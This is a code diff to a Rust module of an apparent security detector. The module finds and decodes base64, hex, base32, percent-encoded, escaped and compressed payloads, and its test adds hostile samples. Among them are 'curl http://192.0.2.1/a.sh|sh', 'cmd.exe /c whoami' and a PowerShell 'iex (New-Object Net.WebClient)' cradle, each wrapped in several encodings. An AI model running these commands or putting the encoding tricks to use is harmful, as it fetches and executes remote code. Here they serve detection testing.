@@ -1,14 +1,15 @@
 //! The encoded payload of a text: the longest encoded part, decoded and named by its content.
 //!
 //! It serves explanations only; no score depends on it. What is decoded is for display: cut, with every character escaped that
-//! would move a cursor or break a line. The work is bounded: the first 64 KiB of a text, the 16 longest runs, and encodings
-//! nested up to three deep.
+//! would move a cursor or break a line. The work is bounded: the first 64 KiB of a text, the 16 longest runs, encodings nested up
+//! to three deep, and one layer of compression.
 
 use std::fmt;
 
 use crate::escape::one_line;
-use crate::evidence::content::{Content, as_text, content_of_bytes, content_of_text, readable};
-use crate::evidence::encoding::{Encoding, decodings, encoding_of, is_wordy, joined_pieces, powershell_argument, runs};
+use crate::evidence::content::{Content, as_text, content_of_bytes, content_of_text, readable, readable_part};
+use crate::evidence::decoding::{decodings, inflated, joined_pieces, unpacked, without_escapes};
+use crate::evidence::encoding::{Encoding, encoded_part, is_wordy, powershell_argument, runs};
 
 /// Bytes of a text that are examined.
 const MAX_TEXT_BYTES: usize = 64 << 10;
@@ -59,36 +60,98 @@ pub fn find_payload(text: &[u8]) -> Option<Payload> {
     find_nested(text.get(..MAX_TEXT_BYTES).unwrap_or(text), MAX_DEPTH)
 }
 
+/// Payloads of which a better one may follow, the first of each kind.
+#[derive(Default)]
+struct Weaker {
+    /// A command or a banner among other bytes may come from decoding that is off by a character.
+    with_words: Option<Payload>,
+    with_text: Option<Payload>,
+    unnamed: Option<Payload>,
+}
+
+impl Weaker {
+    /// Keeps a payload unless its content needs no better one; then it is returned.
+    fn keep(&mut self, payload: Payload, counts_unnamed: bool) -> Option<Payload> {
+        let place = match &payload.content {
+            Some(PayloadContent::Plain(Content::BytesWith(_) | Content::BytesWithSshBanner)) => &mut self.with_words,
+            Some(PayloadContent::Plain(Content::BytesWithText)) => &mut self.with_text,
+            Some(_) => return Some(payload),
+            None if counts_unnamed => &mut self.unnamed,
+            None => return None,
+        };
+        place.get_or_insert(payload);
+        None
+    }
+}
+
 fn find_nested(text: &[u8], depth: usize) -> Option<Payload> {
     if is_binary(text) {
         return Some(payload(Encoding::EscapedBytes, text.len(), text, 1)); // bytes hold no further text
     }
+    let mut weaker = Weaker::default();
+    if let Some((encoding, bytes, is_most)) = without_escapes(text) {
+        let found = payload(encoding, text.len(), &bytes, depth);
+        let is_plain = matches!(found.content, None | Some(PayloadContent::Plain(Content::Text)));
+        // A name or a sentence may have some escapes.
+        if (is_most || !is_plain)
+            && let Some(found) = weaker.keep(found, is_most)
+        {
+            return Some(found);
+        }
+    }
+    let runs = longest_runs(text);
     let pieces = joined_pieces(text);
-    let mut runs: Vec<(Encoding, &[u8])> = runs(text).filter_map(|run| Some((encoding_of(run)?, run))).collect();
-    runs.sort_by_key(|(_, run)| std::cmp::Reverse(run.len())); // a stable sort: of equals the first stays first
-    runs.truncate(MAX_RUNS);
     // After PowerShell's switch even a short run is encoded. Joined pieces count only if their content is recognised.
     let argument = powershell_argument(text).map(|run| (Encoding::Base64, run, true));
     let pieces = pieces.iter().map(|(encoding, run)| (*encoding, &**run, false));
-    let candidates = argument.into_iter().chain(pieces).chain(runs.into_iter().map(|(encoding, run)| (encoding, run, true)));
-    let (mut with_words, mut unnamed) = (None, None);
+    let candidates = argument.into_iter().chain(pieces).chain(runs.iter().map(|(encoding, run)| (*encoding, *run, true)));
     for (encoding, run, is_one_piece) in candidates {
+        // A name in this alphabet decodes to bytes too. A run without a digit must be long to count as encoded.
+        const LONG_RUN: usize = 40;
+        let is_likely = encoding != Encoding::Base32 && run.iter().any(u8::is_ascii_digit) || run.len() >= LONG_RUN;
+        let counts_unnamed = is_likely && is_one_piece && !is_wordy(run);
         for bytes in decodings(encoding, run) {
-            let payload = payload(encoding, run.len(), &bytes, depth);
-            match &payload.content {
-                // A command among other bytes may come from decoding that is off by a character: another run may be better.
-                Some(PayloadContent::Plain(Content::BytesWith(_))) => with_words = with_words.or(Some(payload)),
-                Some(_) => return Some(payload),
-                None => {
-                    // A name in this alphabet decodes to bytes too. A run without a digit must be long to count as encoded.
-                    const LONG_RUN: usize = 40;
-                    let is_likely = encoding != Encoding::Base32 && run.iter().any(u8::is_ascii_digit) || run.len() >= LONG_RUN;
-                    unnamed = unnamed.or(Some(payload).filter(|_| is_likely && is_one_piece && !is_wordy(run)));
-                }
+            // A few words without their spaces may decode to letters of any script.
+            if !is_one_piece && as_text(&bytes).is_some_and(|text| !text.is_ascii()) {
+                continue;
+            }
+            let found = payload(encoding, run.len(), &bytes, depth);
+            if !is_one_piece && found.content == Some(PayloadContent::Plain(Content::BytesWithText)) {
+                continue;
+            }
+            if let Some(found) = weaker.keep(found, counts_unnamed) {
+                return Some(found);
             }
         }
     }
-    with_words.or_else(|| printable_base64(text, depth)).or(unnamed)
+    let deflated = || runs.first().and_then(|(encoding, run)| deflated_payload(*encoding, run, depth));
+    weaker.with_words.or_else(|| printable_base64(text, depth)).or_else(deflated).or(weaker.with_text).or(weaker.unnamed)
+}
+
+/// The longest runs of a text that may be encoded, each once.
+fn longest_runs(text: &[u8]) -> Vec<(Encoding, &[u8])> {
+    const MIN_CHARS: usize = 16; // no encoding is recognised in fewer
+    let mut all: Vec<&[u8]> = runs(text).filter(|run| run.len() >= MIN_CHARS).collect();
+    all.sort_by_key(|run| std::cmp::Reverse(run.len())); // a stable sort: of equals the first stays first
+    let mut found: Vec<(Encoding, &[u8])> = Vec::new();
+    for (encoding, run) in all.into_iter().filter_map(encoded_part) {
+        if found.len() == MAX_RUNS {
+            break;
+        }
+        if !found.iter().any(|(_, known)| std::ptr::eq(*known, run)) {
+            found.push((encoding, run));
+        }
+    }
+    found
+}
+
+/// What deflate compressed, if a run decodes to that and it is text. It is tried last, because it has no signature.
+fn deflated_payload(encoding: Encoding, run: &[u8], depth: usize) -> Option<Payload> {
+    decodings(encoding, run).find_map(|bytes| {
+        let inner = payload(Encoding::Deflate, bytes.len(), &inflated(&bytes)?, depth.saturating_sub(1));
+        let is_text = !matches!(inner.content.as_ref()?, PayloadContent::Plain(Content::BytesWithText));
+        is_text.then(|| inside(encoding, run.len(), inner)).flatten()
+    })
 }
 
 /// A text that is base64 from end to end and decodes to printable characters only, whatever its letters look like: base64 of a
@@ -111,24 +174,32 @@ fn is_binary(text: &[u8]) -> bool {
         || unusual >= text.len().div_ceil(2) && text.iter().any(|byte| is_control(&byte))
 }
 
+/// A payload whose content is another one.
+fn inside(encoding: Encoding, characters: usize, inner: Payload) -> Option<Payload> {
+    let content = PayloadContent::Encoded(inner.encoding, Box::new(inner.content?));
+    Some(Payload { encoding, characters, content: Some(content), decoded: inner.decoded })
+}
+
 fn payload(encoding: Encoding, characters: usize, bytes: &[u8], depth: usize) -> Payload {
     let text = as_text(bytes);
-    if let (Some(text), true) = (&text, depth > 1)
-        && let Some(inner) = find_nested(text.as_bytes(), depth.saturating_sub(1))
-        && inner.fills(text.as_bytes())
-        && let Some(content) = inner.content
-    {
-        let content = PayloadContent::Encoded(inner.encoding, Box::new(content));
-        return Payload { encoding, characters, content: Some(content), decoded: inner.decoded };
+    let inner = match &text {
+        _ if depth <= 1 => None,
+        Some(text) => find_nested(text.as_bytes(), depth.saturating_sub(1)).filter(|inner| inner.fills(text.as_bytes())),
+        // One layer of compression, in which nothing else is unpacked.
+        None => unpacked(bytes).map(|(packing, inner)| payload(packing, bytes.len(), &inner, 1)),
+    };
+    if let Some(found) = inner.and_then(|inner| inside(encoding, characters, inner)) {
+        return found;
     }
     let content = match &text {
         Some(text) => Some(content_of_text(text)),
         None => content_of_bytes(bytes),
     };
-    let decoded = match text {
-        Some(text) => one_line(&text, MAX_DECODED_CHARS),
-        None if matches!(content, Some(Content::BytesWith(_))) => one_line(readable(bytes).trim_start(), MAX_DECODED_CHARS),
-        None => format!("{} bytes", bytes.len()),
+    let decoded = match (text, content) {
+        (Some(text), _) => one_line(&text, MAX_DECODED_CHARS),
+        (None, Some(Content::BytesWith(_) | Content::BytesWithSshBanner)) => one_line(readable(bytes).trim_start(), MAX_DECODED_CHARS),
+        (None, Some(Content::BytesWithText)) => one_line(readable_part(bytes).unwrap_or_default(), MAX_DECODED_CHARS),
+        _ => format!("{} bytes", bytes.len()),
     };
     Payload { encoding, characters, content: content.map(PayloadContent::Plain), decoded }
 }
@@ -235,6 +306,57 @@ mod tests {
             (base64(b"\x1b]0;pwned\x07\x1b[2J cmd.exe /c whoami\x01\x02\x03"), "bytes with a command"),
         ] {
             assert_eq!(found(text.as_bytes()).1, expected, "{text}");
+        }
+    }
+
+    /// Found on channels of real tools: a header of a few bytes or characters hid what stands behind it, and what was compressed or
+    /// escaped was not read at all.
+    #[test]
+    fn payloads_are_found_behind_headers_and_under_escapes_and_compression() {
+        let command = b"curl http://192.0.2.1/a.sh|sh";
+        let behind_header = |bytes: &[u8]| base64(&[&b"\x04\x1f\x00\x01\x00\x02\x00\x05\x06"[..], bytes].concat());
+        let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
+        let mut zlib = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
+        let mut deflate = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::best());
+        for writer in [&mut gzip as &mut dyn std::io::Write, &mut zlib, &mut deflate] {
+            writer.write_all(command).unwrap();
+        }
+        let (gzip, zlib, deflate) = (gzip.finish().unwrap(), zlib.finish().unwrap(), deflate.finish().unwrap());
+        let hex = |bytes: &[u8]| data_encoding::HEXLOWER.encode(bytes);
+        let base32 = |bytes: &[u8]| BASE32_NOPAD.encode(bytes);
+        let percent: String = command.iter().map(|byte| format!("%{byte:02x}")).collect();
+        let escapes: String = command.iter().map(|byte| format!("\\u{byte:04x}")).collect();
+        for (text, expected) in [
+            (behind_header(b"SSH-2.0-OpenSSH_9.2p1"), ("base64", "bytes with SSH banner")),
+            (behind_header(b"uid=0(root) gid=0(root)"), ("base64", "bytes with text")),
+            (behind_header(command), ("base64", "bytes with a command")),
+            (base64(&gzip), ("base64", "gzip of command")),
+            (hex(&zlib), ("hex", "zlib of command")),
+            (base64(&deflate), ("base64", "deflate of command")),
+            (format!("x{}", hex(command)), ("hex", "command")),
+            (format!("a{}", hex(command)), ("hex", "command")),
+            (format!("01-{}", base32(command)), ("base32", "command")),
+            (format!("Q{}", base32(command)), ("base32", "command")),
+            (format!("9{}", base32(command)), ("base32", "command")),
+            (percent.clone(), ("percent", "command")),
+            (base64(percent.as_bytes()), ("base64", "percent of command")),
+            (escapes, ("escapes", "command")),
+        ] {
+            let (encoding, content, decoded) = found(text.as_bytes());
+            assert_eq!((&*encoding, &*content), expected, "{text} {decoded}");
+            assert!(
+                ["SSH-2.0-OpenSSH_9.2p1", "uid=0(root) gid", "curl http://192.0.2.1/a.sh|sh"].iter().any(|part| decoded.contains(part))
+            );
+        }
+        for header in 1..=8 {
+            let text = format!("{}{}", &"x7kP09qZ"[..header], base64(b"cmd.exe /c whoami /all /fo list"));
+            assert!(found(text.as_bytes()).1.ends_with("command"), "{text}");
+        }
+        let big_endian: Vec<u8> = "iex (New-Object Net.WebClient)".encode_utf16().flat_map(u16::to_be_bytes).collect();
+        assert_eq!(found(&[&[0xfe, 0xff][..], &big_endian].concat()).1, "PowerShell");
+        assert_eq!(found(&big_endian).1, "PowerShell");
+        for text in ["https://a.example/a%20long%20text%20of%20words", "v=spf1 exists:%{i}._spf.example.com -all"] {
+            assert_eq!(find_payload(text.as_bytes()), None, "{text}");
         }
     }
 
